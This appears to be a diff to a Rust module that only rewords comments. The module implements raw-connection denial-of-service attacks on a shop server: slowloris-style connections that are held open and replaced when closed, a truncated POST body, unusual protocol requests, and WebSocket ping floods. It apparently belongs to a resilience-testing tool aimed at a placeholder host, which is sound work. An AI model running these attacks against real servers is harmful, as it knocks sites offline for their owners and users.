@@ -1,4 +1,4 @@
-//! What no HTTP client would do.
+//! Attacks below HTTP, on raw connections.
 
 use std::io;
 use std::net::{IpAddr, SocketAddr};
@@ -16,9 +16,9 @@ const CONNECTIONS: usize = 60;
 /// Sockets that one address asks for.
 const SOCKETS: usize = 60;
 const PAUSE: Duration = Duration::from_millis(500);
-/// Between two bytes of somebody slow.
+/// Pause between two bytes of a slow client.
 const BYTE: Duration = Duration::from_secs(5);
-/// Pings in one go.
+/// Pings in one write.
 const PINGS: usize = 1000;
 /// An empty ping with a mask of zeros: [RFC 6455](https://www.rfc-editor.org/rfc/rfc6455#section-5.2).
 const PING: [u8; 6] = [0x89, 0x80, 0, 0, 0, 0];
@@ -30,7 +30,7 @@ const BODY: &[u8] =
     b"POST /checkout/api/cart/lines HTTP/1.1\r\nhost: shop.example\r\ncontent-type: application/json\r\n\
     content-length: 5000\r\n\r\n{";
 
-/// Holds connections that say nothing, or one byte now and then; opens another for each that the shop ends.
+/// Holds connections that send nothing, or a byte now and then, and replaces each that the shop closes.
 pub async fn slow(shop: SocketAddr, source: IpAddr, until: Instant) -> Tally {
     let mut holding = JoinSet::new();
     for number in 0..CONNECTIONS {
@@ -75,7 +75,7 @@ async fn hold_once(shop: SocketAddr, source: IpAddr, begin: &[u8]) -> io::Result
     }
 }
 
-/// Speaks HTTP/2 where nobody does, and sends whole addresses.
+/// Sends HTTP/2 and absolute URLs.
 pub async fn protocols(shop: SocketAddr, source: IpAddr, until: Instant) -> Tally {
     let mut tally = Tally::default();
     let mut nth = 0;
@@ -93,7 +93,7 @@ pub async fn protocols(shop: SocketAddr, source: IpAddr, until: Instant) -> Tall
     tally
 }
 
-/// The first line of what comes back.
+/// The first line of the response.
 async fn exchange(shop: SocketAddr, source: IpAddr, request: &[u8]) -> io::Result<String> {
     let mut stream = connect(shop, source).await?;
     stream.write_all(request).await?;
@@ -107,7 +107,7 @@ async fn exchange(shop: SocketAddr, source: IpAddr, request: &[u8]) -> io::Resul
         .collect())
 }
 
-/// Opens sockets on a product's stock, and pings on each without end.
+/// Opens WebSockets for a product's stock, and sends endless pings on each.
 pub async fn sockets(target: &Target, source: IpAddr, until: Instant) -> Tally {
     let mut open = JoinSet::new();
     for number in 0..SOCKETS {
@@ -155,7 +155,7 @@ async fn socket_once(target: &Target, source: IpAddr, number: usize) -> io::Resu
     }
     let (mut reader, mut writer) = stream.split();
     let pings = PING.repeat(PINGS);
-    // One in ten is loud; the others just stay.
+    // One in ten sends pings; the others stay silent.
     let loud = async {
         loop {
             if number.is_multiple_of(10) {
